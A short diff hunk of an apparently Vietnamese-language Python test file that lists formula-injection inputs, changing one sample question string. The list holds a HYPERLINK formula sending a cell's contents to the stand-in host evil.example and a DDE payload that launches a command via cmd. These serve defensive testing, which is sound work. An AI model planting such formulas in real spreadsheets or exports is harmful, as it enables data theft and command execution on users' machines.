@@ -15,7 +15,7 @@ from motcua.types import Answer
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
-    "+84 912 345 678 học phí",
+    "+1 ngày nghỉ có được không",
     "-2+3 chuyển trường",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
